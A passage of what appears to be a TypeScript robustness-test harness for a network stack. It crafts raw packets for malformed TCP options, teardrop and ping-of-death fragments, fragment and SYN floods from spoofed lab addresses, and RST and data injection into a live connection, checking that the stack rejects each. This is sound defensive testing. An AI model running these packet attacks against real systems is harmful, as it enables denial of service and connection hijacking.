  for (const port of [0, 7, 67, 68, HTTP_PORT, 65535]) p.push(pkt('udp-odd-port', ip(PROTO_UDP, udp(port, randomBytes(300), port === 68 ? 67 : ourPort()))));
  p.push(pkt('udp-odd-port', ip(PROTO_UDP, udp(9999, randomBytes(8), 0))));
  p.push(pkt('udp-largest', ip(PROTO_UDP, udp(9999, randomBytes(1472)))));
  report.echoCases = cases;
  const raw = new RawIp(loadRawSocket());
  await raw.sendAll(p, 32, 5);
  raw.close();
}

/** Malformed TCP headers, then all 64 flag combinations to the listening port and to a closed one (raw-socket). */
async function tcpAttack(): Promise<void> {
  const p: Packet[] = [];
  const badChecksumPorts: number[] = [];
  for (let w = 0; w < 5; w++) p.push(pkt('offset-below-5', tcpRaw(HTTP_PORT, SYN, w, [])));
  p.push(pkt('offset-past-segment', tcpRaw(HTTP_PORT, SYN, 6, [])));
  p.push(pkt('offset-past-segment', tcpRaw(HTTP_PORT, SYN, 15, [2, 4, 5, 180, 1, 1, 1, 0])));
  p.push(pkt('offset-past-segment', tcpRaw(HTTP_PORT, ACK | PSH, 15, [], filled('GET / HTTP/1.1\r\n', 20))));
  // Option lengths of 0 and 1 (a naive parser loops forever on 0), and lengths past the header.
  for (const kind of [2, 3, 4, 5, 8, 30, 99, 254]) {
    p.push(pkt('option-len-0', tcpRaw(HTTP_PORT, SYN, 6, [kind, 0, 0, 0])));
    p.push(pkt('option-len-1', tcpRaw(HTTP_PORT, SYN, 6, [kind, 1, 0, 0])));
    p.push(pkt('option-past-header', tcpRaw(HTTP_PORT, SYN, 6, [kind, 40, 0, 0], randomBytes(40))));
    p.push(pkt('option-past-header', tcpRaw(HTTP_PORT, SYN, 7, [1, 1, 1, 1, 1, 1, kind, 3])));
  }
  p.push(pkt('option-past-header', tcpRaw(HTTP_PORT, SYN, 6, [1, 1, 1, 2])));
  p.push(pkt('option-past-header', tcpRaw(HTTP_PORT, SYN, 15, [5, 255, ...randomBytes(38)])));
  // Wrong sizes for known options, and options that parse but carry hostile values.
  p.push(pkt('option-bad-size', tcpRaw(HTTP_PORT, SYN, 7, [2, 3, 5, 1, 3, 4, 7, 0])));
  p.push(pkt('option-bad-size', tcpRaw(HTTP_PORT, SYN, 8, [5, 3, 0, 0, 8, 9, 0, 0, 0, 0, 0, 0])));
  const hostile: TcpOptions[] = [{ mss: 0 }, { mss: 1 }, { mss: 65535 }, { windowScale: 255 }, { windowScale: 15 }, { sackPermitted: true, sack: [[1, 0], [0xffffffff, 5]] }, { timestamp: { value: 0xffffffff, echo: 0xffffffff } }];
  for (const o of hostile) p.push(pkt('option-hostile-value', tcpSeg({ dstPort: HTTP_PORT, flags: SYN, options: o })));
  // Bad checksums (and a zero one) on SYNs to the listening port: none may be answered.
  for (let i = 0; i < 10; i++) {
    // Ports of their own (below the kernel's ephemeral range, above ourPort's): a valid segment of another case
    // from the same port would draw an answer that is no answer to these.
    const srcPort = 30_001 + i;
    badChecksumPorts.push(srcPort);
    const b = tcpSeg({ dstPort: HTTP_PORT, srcPort, flags: SYN, options: { mss: 1460 } });
    if (i === 0) {
      b[16] = 0;
      b[17] = 0;
    } else {
      b[16] = (b[16] ?? 0) ^ (1 << (i % 8));
    }
    p.push(pkt('checksum', b));
  }
  // Every combination of SYN, ACK, FIN, RST, PSH, URG: to the listener and to a closed port, bare and with data.
  for (const port of [HTTP_PORT, CLOSED_PORT]) {
    for (let flags = 0; flags < 64; flags++) {
      for (const payload of [new Uint8Array(0), filled('hostile', 7)]) {
        const f = flags & (SYN | ACK | FIN | RST | PSH | URG);
        p.push(pkt(port === HTTP_PORT ? 'flags-listener' : 'flags-closed', tcpSeg({ dstPort: port, flags: f, ack: rand32(), urgent: between(0, 65535), payload })));
      }
    }
  }
  // Ports 0, a SYN carrying data, and a "land" SYN from the stack's own address and port to itself.
  p.push(pkt('odd', tcpSeg({ dstPort: 0, flags: SYN })));
  p.push(pkt('odd', tcpSeg({ dstPort: HTTP_PORT, srcPort: 0, flags: SYN })));
  p.push(pkt('odd', tcpSeg({ dstPort: HTTP_PORT, flags: SYN, options: { mss: 1460 }, payload: filled('GET /?user=john&password=password HTTP/1.1\r\n\r\n', 48) })));
  p.push(pkt('land', ip(PROTO_TCP, tcpSeg({ dstPort: HTTP_PORT, srcPort: HTTP_PORT, flags: SYN }, DST, DST), { src: DST })));
  report.badChecksumPorts = badChecksumPorts;
  const raw = new RawIp(loadRawSocket());
  await raw.sendAll(
    p.map((x) => (x.category === 'land' ? x : pkt(x.category, ip(PROTO_TCP, x.bytes)))),
    32,
    5,
  );
  raw.close();
}

/** One fragment of a datagram: `data` at byte `offset` of the payload. */
function fragment(id: number, offset: number, data: Uint8Array, more: boolean, protocol = PROTO_ICMP, src = SRC): Uint8Array {
  // buildIpv4 divides the offset by 8: offsets here are always multiples of 8 (the wire's unit).
  return buildIpv4({ id, ttl: 64, protocol, src, dst: DST, moreFragments: more, fragmentOffset: offset }, data);
}

/** Overlapping, endless, oversized and odd fragments (raw-socket; the kernel keeps our id and fragment fields). */
async function fragmentsAttack(): Promise<void> {
  const p: Packet[] = [];
  const cases: Array<{ id: number; expect: Expect; what: string }> = [];
  let nextEcho = 0x6000 + between(0, 0x0f00);
  const datagram = (what: string, expect: Expect, payloadLen: number, plan: (m: Uint8Array, id: number) => Uint8Array[]): void => {
    const echoId = nextEcho++;
    cases.push({ id: echoId, expect, what });
    const m = echoRequest(echoId, filled(`${what}|`, payloadLen - 8));
    for (const b of plan(m, ipId())) p.push(pkt(what.split(' ')[0] ?? what, b));
  };
  const alt = (m: Uint8Array, from: number, to: number): Uint8Array => {
    const b = Uint8Array.from(m.subarray(from, to));
    for (let i = 0; i < b.length; i++) b[i] = (b[i] ?? 0) ^ 0x5a;
    return b;
  };
  // A control: a 96-byte echo request in three fragments, out of order; it must be answered.
  datagram('control-fragmented', 'reply', 96, (m, id) => [fragment(id, 64, m.subarray(64), false), fragment(id, 0, m.subarray(0, 32), true), fragment(id, 32, m.subarray(32, 64), true)]);
  for (let r = 0; r < 5; r++) {
    // Overlaps with different bytes: the second fragment rewrites bytes 24–48 of the first.
    datagram('overlap-different', 'any', 96, (m, id) => [fragment(id, 0, m.subarray(0, 48), true), fragment(id, 24, alt(m, 24, 72), true), fragment(id, 72, m.subarray(72), false)]);
    // The ICMP header itself sent twice, differently (a checksum-preserving overlay would be the evil variant).
    datagram('overlap-header', 'any', 96, (m, id) => [fragment(id, 0, m.subarray(0, 48), true), fragment(id, 0, alt(m, 0, 16), true), fragment(id, 48, m.subarray(48), false)]);
    // Teardrop: a last fragment that ends inside what the first one already covers.
    datagram('teardrop', 'drop', 96, (m, id) => [fragment(id, 0, m.subarray(0, 48), true), fragment(id, 8, m.subarray(8, 24), false)]);
    // Two last fragments with different ends; a fragment past the end already set.
    datagram('two-ends', 'any', 96, (m, id) => [fragment(id, 48, m.subarray(48), false), fragment(id, 48, m.subarray(48, 80), false), fragment(id, 0, m.subarray(0, 48), true)]);
    datagram('past-end', 'any', 96, (m, id) => [fragment(id, 48, m.subarray(48), false), fragment(id, 96, randomBytes(64), true), fragment(id, 0, m.subarray(0, 48), true)]);
    // Exact duplicates (allowed: the same bytes again).
    datagram('duplicate-same', 'reply', 96, (m, id) => [fragment(id, 0, m.subarray(0, 48), true), fragment(id, 0, m.subarray(0, 48), true), fragment(id, 48, m.subarray(48), false), fragment(id, 48, m.subarray(48), false)]);
  }
  // Tiny fragments: 8 bytes each, the ICMP header split in two, sent backwards.
  datagram('tiny', 'any', 64, (m, id) => Array.from({ length: 8 }, (_, i) => fragment(id, i * 8, m.subarray(i * 8, i * 8 + 8), i < 7)).reverse());
  // A middle fragment whose length is not a multiple of 8; an empty fragment; DF and MF together.
  datagram('bad-length', 'any', 96, (m, id) => [fragment(id, 0, m.subarray(0, 13), true), fragment(id, 16, m.subarray(16), false)]);
  datagram('empty', 'any', 96, (m, id) => [fragment(id, 0, m.subarray(0, 48), true), fragment(id, 48, new Uint8Array(0), true), fragment(id, 48, m.subarray(48), false)]);
  datagram('df-and-mf', 'any', 96, (m, id) => [
    buildIpv4({ id, ttl: 64, protocol: PROTO_ICMP, src: SRC, dst: DST, dontFragment: true, moreFragments: true }, m.subarray(0, 48)),
    fragment(id, 48, m.subarray(48), false),
  ]);
  // Offsets past 65535: the largest offset (65528) with 100 bytes; 65000 with 600; and a ping of death whose
  // fragments add up to 66 600 bytes.
  const big = ipId();
  p.push(pkt('past-65535', fragment(big, 0, echoRequest(nextEcho++, randomBytes(1472)), true)));
  p.push(pkt('past-65535', fragment(big, 65528, randomBytes(100), false)));
  p.push(pkt('past-65535', fragment(ipId(), 65000, randomBytes(600), false)));
  p.push(pkt('past-65535', fragment(ipId(), 65528, randomBytes(8), true)));
  {
    const pod = ipId();
    const first = echoRequest(nextEcho++, randomBytes(1472));
    for (let i = 0; i < 45; i++) p.push(pkt('ping-of-death', fragment(pod, i * 1480, i === 0 ? first : randomBytes(1480), i < 44)));
  }
  // Endless: 2000 fragments of 200 datagrams that never complete (never a last fragment; half without a first),
  // 1000 bytes each, 2 MB in all: eight times the bytes the stack may hold.
  const endlessIds = Array.from({ length: 200 }, () => ipId());
  for (let k = 0; k < 10; k++) {
    for (const [j, id] of endlessIds.entries()) {
      const offset = (j % 2 === 0 ? k : k + 1) * 1000;
      p.push(pkt('endless', fragment(id, offset, randomBytes(1000), true, j % 3 === 0 ? PROTO_UDP : PROTO_ICMP)));
    }
  }
  // And the same from 54 absent sources (each its own reassembly key).
  for (let i = 0; i < 200; i++) p.push(pkt('endless-spoofed', fragment(ipId(), 1000 * between(0, 60), randomBytes(1000), true, PROTO_TCP, lab(between(201, 254)))));
  // A tiny-fragment flood: 8000 fragments of 8 bytes of one datagram, in random order, never completed
  // (the attack that once cost seconds of event-loop time in the overlap scan: now at most 128 are held).
  {
    const id = ipId();
    const offsets = Array.from({ length: 8000 }, (_, i) => i * 8).sort(() => Math.random() - 0.5);
    for (const off of offsets) p.push(pkt('tiny-flood', fragment(id, off, randomBytes(8), true)));
  }
  report.echoCases = cases;
  const raw = new RawIp(loadRawSocket());
  await raw.sendAll(p, 32, 3);
  raw.close();
}

/** --count SYNs to the listening port from absent lab addresses and random ports, as fast as raw-socket goes. */
async function synflood(): Promise<void> {
  const count = num('count', 10_000);
  const from = num('from', 201);
  const to = num('to', 254);
  if (from < 201 || to > 254 || from > to) usage('--from/--to must stay within 201–254 (addresses no namespace has)');
  const p: Packet[] = [];
  for (let i = 0; i < count; i++) {
    const src = lab(between(from, to));
    const seg = tcpSeg(
      { dstPort: HTTP_PORT, srcPort: between(1024, 65535), flags: SYN, window: 64240, options: { mss: 1460, sackPermitted: true, timestamp: { value: rand32(), echo: 0 }, windowScale: 7 } },
      src,
      DST,
    );
    p.push(pkt('syn', ip(PROTO_TCP, seg, { src })));
  }
  const raw = new RawIp(loadRawSocket());
  await raw.sendAll(p, 512, 0);
  raw.close();
  report.ratePerSecond = Math.round((report.sent['syn'] ?? 0) / Math.max(0.001, (Date.now() - t0) / 1000));
}

// --- inject: segments into the live echo connection ----------------------------------------------------------------

interface Seen {
  seq: number;
  ack: number;
  flags: number;
  window: number;
  len: number;
  at: number;
}

/**
 * What the stack sends to the live connection, read off a raw IPPROTO_TCP socket (inbound copies), and the RSTs it
 * sends from the closed port (the answers to markers, by the marker's source port).
 */
class Sniffer {
  readonly seen: Seen[] = [];
  readonly markerAnswers = new Set<number>();
  private readonly sock: RawSocket;
  private readonly waiters = new Set<() => void>();
  constructor(mod: RawSocketModule, clientPort: number) {
    this.sock = mod.createSocket({ protocol: PROTO_TCP, bufferSize: 65_536 });
    this.sock.on('error', noteError);
    this.sock.on('message', (buf) => {
      const v = parseIpv4(buf);
      if (!v.ok || v.header.src !== DST || v.header.dst !== SRC) return;
      const t = parseTcp(v.payload, ipv4Pseudo(v.header.src, v.header.dst, PROTO_TCP));
      if (!t.ok) return;
      const s = t.segment;
      if (s.srcPort === CLOSED_PORT && (s.flags & RST) !== 0) this.markerAnswers.add(s.dstPort);
      else if (s.srcPort === ECHO_PORT && s.dstPort === clientPort) this.seen.push({ seq: s.seq, ack: s.ack, flags: s.flags, window: s.window, len: s.payload.length, at: Date.now() });
      else return;
      for (const w of this.waiters) w();
    });
  }

  /** Resolves true as soon as `cond` holds (checked now and after each segment sniffed), false after `ms`. */
  until(cond: () => boolean, ms: number): Promise<boolean> {
    if (cond()) return Promise.resolve(true);
    return new Promise((resolve) => {
      const finish = (v: boolean): void => {
        clearTimeout(timer);
        this.waiters.delete(check);
        resolve(v);
      };
      const check = (): void => {
        if (cond()) finish(true);
      };
      const timer = setTimeout(() => finish(false), Math.max(0, ms));
      this.waiters.add(check);
    });
  }

  close(): void {
    this.sock.close();
  }
}

/** How long the stack may take to answer a marker, or the probe after the attack (it answers both at once). */
const MARKER_MS = 10_000;

/**
 * Proves that the stack has dealt with everything sent before: a SYN to the closed port from a port of our own,
 * sent after the rest, is answered with a RST at once, and the stack reads its frames and answers them in order, so
 * whatever it sent in answer to the earlier segments has been sniffed by the time this RST is. The SYN is sent again
 * every 500 ms (MARKER_MS in all). False when no RST came.
 */
async function markerAnswered(raw: RawIp, sniffer: Sniffer): Promise<boolean> {
  const port = ourPort(); // below the ephemeral range: never the live connection's port
  const end = Date.now() + MARKER_MS;
  while (Date.now() < end) {
    await raw.sendAll([pkt('marker', ip(PROTO_TCP, tcpSeg({ dstPort: CLOSED_PORT, srcPort: port, flags: SYN })))]);
    if (await sniffer.until(() => sniffer.markerAnswers.has(port), Math.min(500, end - Date.now()))) return true;
  }
  return false;
}

async function injectAttack(): Promise<void> {
  if (CLIENT_PORT <= 0) usage('inject needs --client-port (the live echo connection\'s port on the peer)');
  if (!['rst', 'syn', 'data', 'exact-rst'].includes(PHASE)) usage('inject needs --phase rst|syn|data|exact-rst');
  const mod = loadRawSocket();
  const sniffer = new Sniffer(mod, CLIENT_PORT);
  const raw = new RawIp(mod);
  const seg = (s: Partial<TcpSegment>): Uint8Array => ip(PROTO_TCP, tcpSeg({ srcPort: CLIENT_PORT, dstPort: ECHO_PORT, ...s }));

  // Learn SND.NXT and RCV.NXT: a bare ACK with a random (out-of-window) sequence number is answered with an ACK
  // carrying both (RFC 9293 §3.10.7.4, first check). A few tries, in case one lands in the window.
  let state: Seen | undefined;
  for (let tries = 0; tries < 5 && state === undefined; tries++) {
    const before = sniffer.seen.length;
    await raw.sendAll([pkt('probe', seg({ flags: ACK, seq: rand32(), ack: rand32() }))]);
    await sniffer.until(() => sniffer.seen.length > before, 500);
    state = sniffer.seen[sniffer.seen.length - 1];
  }
  if (state === undefined) {
    report.error = 'no answer to the probe: the live connection is unknown to the stack, or the sniffer saw nothing';
    sniffer.close();
    raw.close();
    return;
  }
  const { seq: sndNxt, ack: rcvNxt, window } = state;
  report.learned = { sndNxt, rcvNxt, window };
  const seenBefore = sniffer.seen.length;
  const p: Packet[] = [];
  const randomOtherThan = (x: number): number => {
    for (;;) {
      const r = rand32();
      if (r !== x) return r;
    }
  };

  if (PHASE === 'rst') {
    // 1000 RSTs with random sequence numbers, then 100 in the window but not exact (each gets a challenge ACK).
    for (let i = 0; i < 1000; i++) p.push(pkt('rst-random', seg({ flags: i % 2 === 0 ? RST : RST | ACK, seq: randomOtherThan(rcvNxt), ack: i % 4 < 2 ? sndNxt : rand32() })));
    const w = Math.max(2, Math.min(window, 65535));
    for (let i = 0; i < 100; i++) p.push(pkt('rst-in-window', seg({ flags: RST, seq: seqAdd(rcvNxt, between(1, w - 1)) })));
    p.push(pkt('rst-in-window', seg({ flags: RST | ACK, seq: seqAdd(rcvNxt, 1), ack: sndNxt })));
    p.push(pkt('rst-just-below', seg({ flags: RST, seq: seqAdd(rcvNxt, -1) })));
  } else if (PHASE === 'syn') {
    // 1000 SYNs with random sequence numbers, SYN-ACKs, and SYNs in the window, one at exactly RCV.NXT: RFC 9293
    // with RFC 5961 §4 answers each with a challenge ACK, whatever its sequence number.
    for (let i = 0; i < 1000; i++) p.push(pkt('syn-random', seg({ flags: SYN, seq: rand32(), options: { mss: 1460 } })));
    for (let i = 0; i < 50; i++) p.push(pkt('synack-random', seg({ flags: SYN | ACK, seq: rand32(), ack: i % 2 === 0 ? sndNxt : rand32() })));
    for (let i = 0; i < 20; i++) p.push(pkt('syn-in-window', seg({ flags: SYN, seq: seqAdd(rcvNxt, i === 0 ? 0 : between(1, 1000)) })));
  } else if (PHASE === 'data') {
    const d = (tag: string, n = 100): Uint8Array => filled(`INJECTED-${tag}-`, n);
    // Wholly to the right of any window we could have, far away, and wholly to the left (old bytes again).
    for (let k = 0; k < 50; k++) p.push(pkt('data-right', seg({ flags: ACK | PSH, seq: seqAdd(rcvNxt, MAX_WINDOW + 1 + k * 100), ack: sndNxt, payload: d('right') })));
    for (let k = 0; k < 50; k++) p.push(pkt('data-far', seg({ flags: ACK | PSH, seq: seqAdd(rcvNxt, 0x80000000 + between(0, 0x0fffffff)), ack: sndNxt, payload: d('far') })));
    for (let k = 0; k < 50; k++) p.push(pkt('data-left', seg({ flags: ACK | PSH, seq: seqAdd(rcvNxt, -100 - k * 100), ack: sndNxt, payload: d('left') })));
    for (let k = 0; k < 50; k++) p.push(pkt('data-random', seg({ flags: ACK | PSH, seq: randomOtherThan(rcvNxt), ack: sndNxt, payload: d('random', between(1, 1000)) })));
    // In the window but unacceptable otherwise: an ACK of bytes never sent, an ACK older than any window
    // (RFC 5961 §5.2), and no ACK bit at all. None of these bytes may reach the application.
    for (let k = 0; k < 20; k++) p.push(pkt('data-ack-unsent', seg({ flags: ACK | PSH, seq: rcvNxt, ack: seqAdd(sndNxt, between(1, 1 << 20)), payload: d('ack-unsent') })));
    for (let k = 0; k < 20; k++) p.push(pkt('data-ack-ancient', seg({ flags: ACK | PSH, seq: rcvNxt, ack: seqAdd(sndNxt, -(1 << 30) - between(0, 1 << 20)), payload: d('ack-ancient') })));
    for (let k = 0; k < 20; k++) p.push(pkt('data-no-ack', seg({ flags: PSH, seq: rcvNxt, payload: d('no-ack') })));
    for (let k = 0; k < 10; k++) p.push(pkt('data-fin-outside', seg({ flags: ACK | FIN, seq: seqAdd(rcvNxt, MAX_WINDOW + 1 + k), ack: sndNxt })));
    for (let k = 0; k < 10; k++) p.push(pkt('data-urg-outside', seg({ flags: ACK | URG | PSH, seq: seqAdd(rcvNxt, MAX_WINDOW + 1 + k), ack: sndNxt, urgent: 65535, payload: d('urg') })));
  } else {
    // One RST at exactly RCV.NXT: this one must reset the connection.
    p.push(pkt('rst-exact', seg({ flags: RST, seq: rcvNxt })));
  }
  await raw.sendAll(p, 32, 2);
  // Everything the stack answered to the attack is sniffed once the marker's RST is.
  if (!(await markerAnswered(raw, sniffer))) {
    report.error = `no RST from the closed port ${CLOSED_PORT} to the marker within ${MARKER_MS} ms: the stack is stuck, or the sniffer saw nothing`;
  } else if (PHASE !== 'exact-rst') {
    // And the connection as it is now: the probe again (out of the window, so answered at once with SND.NXT and
    // RCV.NXT, whatever the stack's delayed ACKs). Bytes it accepted from the attack would show in that answer's
    // ACK even had their own ACK not been sent yet. (Not after exact-rst: there is no connection left to ask.)
    let answered = false;
    for (let tries = 0; tries < 5 && !answered; tries++) {
      const before = sniffer.seen.length;
      await raw.sendAll([pkt('probe', seg({ flags: ACK, seq: rand32(), ack: rand32() }))]);
      answered = await sniffer.until(() => sniffer.seen.length > before, 500);
    }
    if (!answered) report.error = 'no answer to the probe after the attack: the live connection is unknown to the stack';
  }
  // Every answer since the attack began, the marker's excepted and the last probe's included.
  const answers = sniffer.seen.slice(seenBefore);
  report.answers = {
    total: answers.length,
    acks: answers.filter((s) => s.flags === ACK && s.len === 0).length,
    withData: answers.filter((s) => s.len > 0).length,
    rst: answers.filter((s) => (s.flags & RST) !== 0).length,
    /** Acks the stack sent that moved RCV.NXT: bytes it accepted from us (must be none). */
    ackMoved: answers.filter((s) => s.ack !== rcvNxt).length,
  };
  sniffer.close();
  raw.close();
}

// -----------------------------------------------------------------------------------------------------------------

async function main(): Promise<void> {
  switch (attack) {
    case 'ethernet':
      return ethernetAttack();
    case 'ipv4':
      return ipv4Attack();
    case 'icmp-udp':
      return icmpUdpAttack();
    case 'tcp':
      return tcpAttack();
    case 'fragments':
      return fragmentsAttack();
    case 'synflood':
      return synflood();
    case 'inject':
      return injectAttack();
  }
}

main().then(
  () => {
    clearTimeout(hardStop);
    printReport();
    process.exit(0);
  },
  (err: unknown) => {
    noteError(err instanceof Error ? err : new Error(String(err)));
    clearTimeout(hardStop);
    printReport();
    process.exit(1);
  },
);
